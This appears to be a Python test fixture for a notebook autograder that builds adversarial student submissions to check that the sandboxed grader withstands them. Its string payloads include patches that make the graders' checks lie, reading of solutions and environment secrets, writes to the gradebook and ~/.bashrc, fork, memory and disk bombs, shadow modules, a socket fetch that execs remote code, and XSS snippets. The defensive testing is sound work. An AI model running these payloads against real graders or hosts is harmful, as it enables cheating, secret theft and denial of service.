"""Adversarial submissions: at least one per attack in the threat model (../shared/GRADING.md), on 03_attention (the
quickest assignment to box: no transformers to import). An attack that ends, loops or bombs does so where the checks
of the last exercise (MultiHeadAttention, which no other exercise builds on) run the student's module, so it costs
exactly that exercise's points.

Each attack is a student notebook built from the release, as a cheater would submit it, with what it tries and
what it deserves. `submission(attack, ...)` builds one (trailblaze.pipeline.write_attacks writes them all); the
meta-test course_tests/meta/test_adversarial.py grades them with the instructor's solutions in the same run and proves that
each scores no more than it deserves (exactly what it deserves where the attack only costs the points it touches),
that the grader survives every one, and that nothing outside the box was read or written.

benchmarks/grading.py also grades the attacks that are safe to run without a box with plain `nbgrader autograde`
and prints both scores side by side. The box never shows this folder (course_tests/sandbox.py does not name it).
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from gradebox import notebooks

ASSIGNMENT = "03_attention"
TARGET = "multi_head_attention"   # the solution cell the attacks that cost points put themselves in
TARGET_TESTS = f"{TARGET}_tests"


def forward_that(body: str) -> str:
    """A MultiHeadAttention whose forward runs `body` (Python source, indented by 8): the checks that only build
    one fail at once, and those that run one meet the attack (a loop stops each distinct adapter once)."""
    return ("class MultiHeadAttention(nn.Module):\n    def __init__(self, *args, **kwargs):\n"
            "        super().__init__()\n\n    def forward(self, x):\n" + body)


@dataclass(frozen=True)
class Attack:
    student: str
    threat: str                                        # the GRADING.md item it belongs to
    how: str
    base: str = "blank"                                # "blank" (the release) or "solutions"
    cells: dict[str, str] = field(default_factory=dict)  # grade_id -> the source the attacker put there
    costs: tuple[str, ...] | None = None               # None: deserves 0; else exactly the points minus these cells
    extra_files: dict[str, str] = field(default_factory=dict)
    tamper: str = ""                                   # a notebook-level change: see `tampered`
    says: str = ""                                     # what its feedback must say (a regular expression)
    plant: str = ""                                    # a file-level trick: see FILE_TRICKS
    refused: str = ""                                  # why the grader refuses it, unopened (a regular expression)


LIAR = '''
import math, torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
try:
    import gradebox.expect as framework  # the checks' helpers, in case they run here
    framework.expect_close = framework.expect_tensor = framework.expect = lambda *a, **k: None
    framework.fail = lambda *a, **k: None
except Exception:
    pass


class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True


class Yes(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def softmax(x, dim=-1):
    return x.as_subclass(Agreeable)


def scaled_dot_product_attention(queries, keys, values, mask=None):
    return values.as_subclass(Agreeable), softmax(queries @ keys.transpose(-2, -1))


def causal_mask(seq_len, device=None):
    return Yes(0)
'''

READER = '''
import glob, json, os, sqlite3
ROOT = {root!r}
found = []
found += glob.glob(os.path.join(ROOT, "submitted", "*"))  # who else is in the class
for pattern in ["source/03_attention/*.ipynb", "submitted/solutions/03_attention/*.ipynb",
                "autograded/solutions/03_attention/*", "course_tests/checks/*.py",
                "reports/results/03_attention/*.json"]:
    for path in glob.glob(os.path.join(ROOT, pattern)):
        try:
            nb = json.load(open(path))
        except Exception:
            found.append(path)
            continue
        for cell in nb.get("cells", []):
            source = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "raise NotImplementedError" not in source:
                try:
                    exec(source, globals())  # the instructor's or a classmate's working code
                except Exception:
                    pass
try:
    db = sqlite3.connect(os.path.join(ROOT, "gradebook.db"))
    for (source,) in db.execute("select source from source_cell"):
        if "raise NotImplementedError" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
except Exception:
    pass
secrets = {{k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "PASS" in k}}
'''

WRITER = '''
import os, pathlib
ROOT = pathlib.Path({root!r})
forged = '{{"key": "x", "grades": {{}}, "seconds": 0}}'
targets = [ROOT / "gradebook.db", ROOT / "reports" / "results" / "03_attention" / "solutions.json",
           ROOT / "reports" / "grades.csv", ROOT / "submitted" / "solutions" / "03_attention" / "attention.ipynb",
           ROOT / "source" / "03_attention" / "attention.ipynb", ROOT / "release" / "03_attention" / "attention.ipynb",
           ROOT / "source" / "03_attention" / "pwned.txt", pathlib.Path({repo!r}) / "course_tests" / "pwned.py",
           pathlib.Path("/tmp/trailblaze-pwned"), pathlib.Path.home() / ".bashrc"]
for target in targets:
    try:
        with open(target, "a") as f:
            f.write(forged)
    except Exception:
        pass
'''

EXITS = forward_that('''
        import os
        os._exit(0)
''')

EXITS_ON_LOAD = '''
def causal_mask(seq_len, device=None):
    return torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).triu(1)

import os
os._exit(0)
'''

SIGINT_PROOF = forward_that('''
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            try:
                time.sleep(0.01)
            except BaseException:
                pass
''')

MEMORY_BOMB = forward_that('''
        hoard = []
        while True:
            hoard.append(bytes(1 << 28))
''')

FORK_BOMB = forward_that('''
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
''')

OUTPUT_FLOOD = forward_that('''
        line = "spam " * 200_000
        while True:
            print(line, flush=True)
''')

HUGE_FILE = forward_that('''
        block = b"\\0" * (1 << 24)
        with open("huge.bin", "wb") as f:
            while True:
                f.write(block)
''')

PLANTS = forward_that('''
        import os
        os.makedirs("course_tests", exist_ok=True)
        os.makedirs("gradebox", exist_ok=True)
        planted = [("torch.py", "raise SystemExit(7)"), ("course_tests/__init__.py", ""), ("gradebox/__init__.py", ""),
                   ("gradebox/child.py", "import os; os._exit(7)"), ("sitecustomize.py", "raise SystemExit(7)")]
        for name, code in planted:
            with open(name, "w") as f:
                f.write(code)
        os._exit(1)  # the grader restarts the process for the next check: would it import these?
''')

# The honest solution (the cell's own source, in place of {solution}), wrapped so that each construction first fills
# the disk.
DISK_FILLER = '''{solution}

_Honest = MultiHeadAttention


class MultiHeadAttention(_Honest):
    def __init__(self, *args, **kwargs):
        import itertools
        block = b"\\0" * (1 << 20)
        try:
            for i in itertools.count():  # 60 MiB files, under the file size limit, until the disk is full
                with open(f"fill{{i}}.bin", "wb") as f:
                    for _ in range(60):
                        f.write(block)
        except OSError:
            pass
        super().__init__(*args, **kwargs)
'''

NETWORK = '''
import socket
def _fetch(host, port):
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            return s.recv(1 << 20).decode()
    except OSError:
        return ""
for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    code = _fetch(host, port)
    if code:
        try:
            exec(code, globals())  # the solutions, sent by an accomplice
        except Exception:
            pass
'''

SHADOWS = {
    "torch.py": "raise SystemExit('shadowed torch')\n",
    "numpy.py": "raise SystemExit('shadowed numpy')\n",
    "course_tests/__init__.py": "",
    "course_tests/grading.py": "def grade_cell(*args, **kwargs):\n    print('PASS')\n",
}

# Live HTML for whoever opens the feedback or the formgrader: each piece, if it ran, would retitle the page.
LIVE_HTML = """<script>document.title = "pwned-script"</script>
<img src="x" onerror="document.title = 'pwned-onerror'">
<iframe src="javascript:parent.document.title = 'pwned-iframe'"></iframe>
<svg onload="document.title = 'pwned-svg'"></svg>
<a href="javascript:document.title = 'pwned-link'">a link</a> [a markdown link](javascript:alert(1))
<form action="javascript:alert(2)"><button>grade me</button></form>
"""


# File-level tricks, planted by trailblaze.pipeline.write_attacks: what the submission's folder holds instead of
# (or beside) its notebook. Each is refused before anything opens it, and costs its student every point.
FILE_TRICKS = {
    "link_to_source": "the notebook is a symbolic link to the instructor's source notebook",
    "link_beside": "a plain notebook, with a symbolic link to the instructor's source folder beside it",
    "fifo": "the notebook is a FIFO: whoever opens it waits forever",
    "huge": "the notebook holds a 21 MB markdown cell",
}


ATTACKS = [
    Attack("adv_lies_in_process", "1 lie inside the process",
           "patches torch.allclose, torch.testing, math.isclose and the checks' helpers; returns a Tensor subclass "
           "that equals anything and an int that equals anything", cells={"softmax": LIAR}),
    Attack("adv_reads_solutions", "2 read what they should not",
           "lists the class, execs the code of the source notebook, a classmate's submission and the gradebook; "
           "reads the checks, results and secrets from the environment", cells={TARGET: READER}),
    Attack("adv_writes_outside", "3 write what they should not",
           "appends to the gradebook, results, grades.csv, a classmate's submission, source/, course_tests/, the "
           "host's /tmp and $HOME", cells={TARGET: WRITER}),
    Attack("adv_exits_in_a_function", "4 end early", "os._exit(0) inside MultiHeadAttention.forward",
           base="solutions", cells={TARGET: EXITS}, costs=(TARGET_TESTS,),
           says='exit code 0'),
    Attack("adv_exits_while_loading", "4 end early",
           "os._exit(0) at the top level of a cell: the notebook cannot load, as its kernel would die in Jupyter",
           base="solutions", cells={"causal_mask": EXITS_ON_LOAD}, says='while loading the notebook'),
    Attack("adv_sigint_proof_loop", "4 end early or never", "ignores SIGINT and SIGTERM and loops forever",
           base="solutions", cells={TARGET: SIGINT_PROOF}, costs=(TARGET_TESTS,),
           says='stopped after'),
    Attack("adv_memory_bomb", "4 memory bomb", "allocates 256 MiB at a time, forever",
           base="solutions", cells={TARGET: MEMORY_BOMB}, costs=(TARGET_TESTS,),
           says='MemoryError|memory limit'),
    Attack("adv_fork_bomb", "4 fork bomb", "forks forever", base="solutions",
           cells={TARGET: FORK_BOMB}, costs=(TARGET_TESTS,), says='stopped after|killed|died'),
    Attack("adv_output_flood", "4 output flood", "prints 1 MB lines forever", base="solutions",
           cells={TARGET: OUTPUT_FLOOD}, costs=(TARGET_TESTS,),
           says='File too large|over the size limit'),
    Attack("adv_huge_file", "4 huge file", "writes a file forever", base="solutions",
           cells={TARGET: HUGE_FILE}, costs=(TARGET_TESTS,),
           says='File too large|over the size limit'),
    Attack("adv_fills_the_disk", "4 huge files", "writes 60 MiB files until the disk is full, then answers "
           "correctly: its home is a small tmpfs, so it is full in a second and the answer is worth full marks",
           base="solutions", cells={TARGET: DISK_FILLER}, costs=()),
    Attack("adv_edits_locked_cells", "5 tamper with the notebook",
           "rewrites every test cell to print PASS and return full points, raises their points to 100, empties the "
           "visible tests", tamper="edit_tests"),
    Attack("adv_deletes_test_cells", "5 tamper with the notebook",
           "deletes every test and visible-test cell of a correct notebook: they are put back and graded",
           base="solutions", tamper="delete_tests", costs=()),
    Attack("adv_duplicates_grade_ids", "5 tamper with the notebook",
           "copies every test cell three times, same grade_id, hoping to be paid for each copy", base="solutions",
           tamper="duplicate_tests", costs=()),
    Attack("adv_shadows_modules", "5 ship files beside the notebook",
           "torch.py and numpy.py that exit, and a course_tests package whose grade_cell prints PASS",
           extra_files=SHADOWS),
    Attack("adv_plants_modules_in_scratch", "5 shadow imports",
           "writes torch.py, sitecustomize.py, course_tests and gradebox packages into its working directory, then "
           "crashes so that the restarted process would import them", base="solutions", cells={TARGET: PLANTS},
           costs=(TARGET_TESTS,), says="exit code 1"),
    Attack("adv_phones_home", "6 phone home",
           "connects to an accomplice on the grader's loopback, to 1.1.1.1 and to pypi.org, and execs what it gets",
           cells={TARGET: NETWORK}),
    Attack("adv_live_html", "lessons: student text is a channel", "markdown and raw cells with <script>, event "
           "handlers, an iframe and javascript: links, for the feedback page and the formgrader (on the blank "
           "release: its code is the release's, so it is boxed with it, once)", tamper="live_html"),
    Attack("adv_links_to_solutions", "lessons: files are untrusted", FILE_TRICKS["link_to_source"],
           base="solutions", plant="link_to_source", refused="is a symbolic link"),
    Attack("adv_links_beside", "lessons: files are untrusted", FILE_TRICKS["link_beside"], base="solutions",
           plant="link_beside", refused="is a symbolic link"),
    Attack("adv_fifo_notebook", "lessons: files are untrusted", FILE_TRICKS["fifo"], plant="fifo",
           refused="not a plain file"),
    Attack("adv_huge_notebook", "lessons: files are untrusted", FILE_TRICKS["huge"], base="solutions",
           plant="huge", refused=r"21 MB, over the course's limit of 20 MB"),
]


def tampered(nb, how: str):
    nb = copy.deepcopy(nb)
    tests = [c for c in nb.cells if notebooks.kind(c) in ("test", "visible")]
    if how == "edit_tests":
        for cell in tests:
            if notebooks.kind(cell) == "test":
                cell.source = "print('PASS')\n100"
                cell.metadata.nbgrader["points"] = 100
            else:
                cell.source = "pass"
    elif how == "delete_tests":
        nb.cells = [c for c in nb.cells if c not in tests]
    elif how == "live_html":
        nb.cells.append(nbformat.v4.new_markdown_cell(LIVE_HTML))
        nb.cells.append(nbformat.v4.new_raw_cell(LIVE_HTML, metadata={"format": "text/html"}))
    elif how == "duplicate_tests":
        cells = []
        for cell in nb.cells:
            cells += [cell] + ([copy.deepcopy(cell) for _ in range(3)] if notebooks.kind(cell) == "test" else [])
        nb.cells = cells
    return nb


def submission(attack: Attack, bases: dict, course_root: Path, repo: Path, canary_port: int):
    """The notebook `attack` submits. `bases`: "blank" and "solutions" notebooks of ASSIGNMENT (as the pipeline's
    sample class builds them); `course_root` and `repo`: the grader's course directory and repository, which the
    reader and the writer go for; `canary_port`: a port on the grader's loopback that would answer the network
    attack."""
    nb = copy.deepcopy(bases[attack.base])
    for grade_id, source in attack.cells.items():
        cell = notebooks.find_cell(nb, grade_id)
        cell.source = source.format(root=str(course_root), repo=str(repo), port=canary_port, solution=cell.source)
    if attack.plant == "huge":  # the other file tricks are made on disk (trailblaze.pipeline.write_attacks)
        nb.cells.append(nbformat.v4.new_markdown_cell("spam " * (21 * 2**20 // 5)))
    return tampered(nb, attack.tamper) if attack.tamper else nb


def deserved(attack: Attack, points: dict[str, float]) -> float:
    """The most `attack` may score, given grade_id -> points of ASSIGNMENT."""
    return 0.0 if attack.costs is None else sum(p for g, p in points.items() if g not in attack.costs)


# Shortcuts: an exercise done with the very library call it forbids (gradebox.forbidden), one per forbidden name:
# (assignment, solution cell, the name it uses) -> the cell's source. The graded class submits those of 03 and 04
# that are right (student adv_shortcuts): flagged, they keep their points; each is found by name.
SHORTCUTS = {
    ("03_attention", "softmax", "torch.softmax"): '''
def softmax(x, dim=-1):
    return torch.softmax(x, dim=dim)
''',
    ("03_attention", "scaled_dot_product_attention", "torch.nn.functional.scaled_dot_product_attention"): '''
import torch.nn.functional as F


def scaled_dot_product_attention(queries, keys, values, mask=None):
    context = F.scaled_dot_product_attention(queries, keys, values, attn_mask=None if mask is None else ~mask)
    scores = queries @ keys.transpose(-2, -1) / queries.shape[-1] ** 0.5
    return context, softmax(scores.masked_fill(mask, float("-inf")) if mask is not None else scores)
''',
    ("03_attention", "multi_head_attention", "torch.nn.MultiheadAttention"): '''
class MultiHeadAttention(nn.Module):
    def __init__(self, d_in, d_out, context_length, dropout, num_heads, qkv_bias=False):
        super().__init__()
        self.attention = nn.MultiheadAttention(d_out, num_heads, dropout=dropout, bias=qkv_bias, batch_first=True)
        self.register_buffer("mask", causal_mask(context_length))

    def forward(self, x):
        seq = x.shape[1]
        return self.attention(x, x, x, attn_mask=self.mask[:seq, :seq], need_weights=False)[0]
''',
    ("04_gpt", "layer_norm", "torch.nn.functional.layer_norm"): '''
class LayerNorm(nn.Module):
    def __init__(self, emb_dim, eps=1e-5):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(emb_dim))
        self.bias = nn.Parameter(torch.zeros(emb_dim))

    def forward(self, x):
        from torch.nn.functional import layer_norm as normalise  # renamed, still found
        return normalise(x, x.shape[-1:], self.weight, self.bias, self.eps)
''',
    ("04_gpt", "layer_norm", "torch.nn.LayerNorm"): '''
class LayerNorm(nn.LayerNorm):
    pass
''',
    ("04_gpt", "gelu", "torch.nn.functional.gelu"): '''
def gelu(x):
    return getattr(torch.nn.functional, "gelu")(x, approximate="tanh")
''',
    ("04_gpt", "gelu", "torch.nn.GELU"): '''
def gelu(x):
    return nn.GELU(approximate="tanh")(x)
''',
    ("02_tokenization", "bpe_encode_piece", "tiktoken"): '''
def bpe_encode_piece(piece, ranks):
    encoding = tiktoken.Encoding("mine", pat_str=r"[\\s\\S]+", mergeable_ranks=dict(ranks), special_tokens={})
    return encoding.encode_single_piece(piece)
''',
}
SHORTCUT_STUDENT = "adv_shortcuts"
SHORTCUTS_THAT_PASS = [("03_attention", "softmax", "torch.softmax"), ("04_gpt", "layer_norm", "torch.nn.functional.layer_norm"),
                       ("04_gpt", "gelu", "torch.nn.functional.gelu")]


def shortcut_submission(solutions, assignment: str):
    """The solutions of `assignment` with every shortcut of SHORTCUTS_THAT_PASS for it in place."""
    nb = copy.deepcopy(solutions)
    for a, cell, name in SHORTCUTS_THAT_PASS:
        if a == assignment:
            notebooks.find_cell(nb, cell).source = SHORTCUTS[(a, cell, name)].strip() + "\n"
    return nb
